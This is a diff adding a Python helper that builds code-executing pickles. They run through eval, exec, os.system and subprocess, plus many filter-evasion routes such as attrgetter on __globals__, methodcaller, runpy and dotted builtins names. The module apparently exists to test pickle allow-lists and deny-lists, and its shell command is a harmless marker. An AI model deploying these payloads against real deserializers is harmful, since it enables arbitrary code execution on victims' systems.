@@ -1,0 +1,80 @@
+"""Pickles that run code when loaded, assembled opcode by opcode (see the standard library's `pickletools`)."""
+
+from __future__ import annotations
+
+import struct
+
+
+def reduce(source: str, protocol: int = 4) -> bytes:
+    """A pickle that evaluates the expression by `builtins.eval`."""
+    return _start(protocol) + _call(_name("builtins", "eval", protocol), _text(source, protocol)) + b"."
+
+
+def payloads(source: str, path: str, product: str) -> dict[str, bytes]:
+    """Named pickles; a name tells the road, and so the kind of allow-list or deny-list that it is made for."""
+    text = _text(source)
+    evaluate = _name("builtins", "eval")
+    shell = f"echo $(({product}))>{path}"
+    imported = _call(_name("builtins", "__import__"), _text("builtins"))
+    found = {f"eval, protocol {protocol}": reduce(source, protocol) for protocol in range(6)}
+    found |= {
+        "exec": _call(_name("builtins", "exec"), _text(source)),
+        "getattr of an import": _call(_call(_name("builtins", "getattr"), imported, _text("eval")), text),
+        "os.system": _call(_name("os", "system"), _text(shell)),
+        "posix.system": _call(_name("posix", "system"), _text(shell)),
+        "subprocess": _call(_name("subprocess", "getoutput"), _text(shell)),
+        "inst opcode": b"(V" + source.encode("raw-unicode-escape") + b"\nibuiltins\neval\n",
+        "obj opcode": b"(cbuiltins\neval\n" + text + b"o",
+        "partial": _call(_call(_name("functools", "partial"), evaluate, text)),
+        "operator": _by_operator("functools", "total_ordering", text),
+        "operator and collections": _by_operator("collections", "namedtuple", text),
+        "methodcaller": _by_method(text),
+        "compiled": _call(_name("runpy", "_run_code"), _call(_name("builtins", "compile"), text, *_EVALUATED), b"}"),
+        "timed": _call(_name("timeit", "timeit"), _text("pass"), text),
+        "within a list": b"](" + _call(evaluate, text) + b"e",
+        "within a dictionary": b"}(" + _text("user") + _call(evaluate, text) + b"u",
+        "as a key": b"}(" + _call(evaluate, text) + _text("user") + b"u",
+        "build": _name("builtins", "Exception") + b")R}(" + _text("x") + _call(evaluate, text) + b"ub",
+        "popped, then plain data": _call(evaluate, text) + b"0}(" + _text("user") + _text("ada") + b"u",
+    }
+    for module in ("collections", "datetime", "decimal", "solution", "__main__"):
+        found[f"dotted name in {module}"] = _call(_call(_name(module, "__builtins__.get"), _text("eval")), text)
+    made = {name: data if name.startswith("eval,") else _start(4) + data + b"." for name, data in found.items()}
+    return made | {"module name of Python 2": _start(2) + b"c__builtin__\neval\n" + text + b"\x85R."}
+
+
+def _by_operator(module: str, function: str, text: bytes) -> bytes:
+    """Only `operator` and a harmless module are named: a function's globals hold the builtins."""
+    names = _call(_call(_name("operator", "attrgetter"), _text("__globals__")), _name(module, function))
+    builtins = _call(_name("operator", "getitem"), names, _text("__builtins__"))
+    return _call(_call(_name("operator", "getitem"), builtins, _text("eval")), text)
+
+
+def _by_method(text: bytes) -> bytes:
+    """`operator.methodcaller("eval", source)(builtins)`."""
+    module = _call(_name("importlib", "import_module"), _text("builtins"))
+    return _call(_call(_name("operator", "methodcaller"), _text("eval"), text), module)
+
+
+def _start(protocol: int) -> bytes:
+    return b"\x80" + bytes([protocol]) if protocol >= 2 else b""
+
+
+def _text(text: str, protocol: int = 4) -> bytes:
+    if protocol == 0:
+        return b"V" + text.encode("raw-unicode-escape").replace(b"\n", b"\\u000a") + b"\n"
+    data = text.encode()
+    return b"X" + struct.pack("<I", len(data)) + data
+
+
+def _name(module: str, name: str, protocol: int = 4) -> bytes:
+    if protocol < 4:
+        return b"c" + f"{module}\n{name}\n".encode()
+    return _text(module) + _text(name) + b"\x93"
+
+
+def _call(function: bytes, *arguments: bytes) -> bytes:
+    return function + b"(" + b"".join(arguments) + b"tR"
+
+
+_EVALUATED = (_text("x"), _text("eval"))
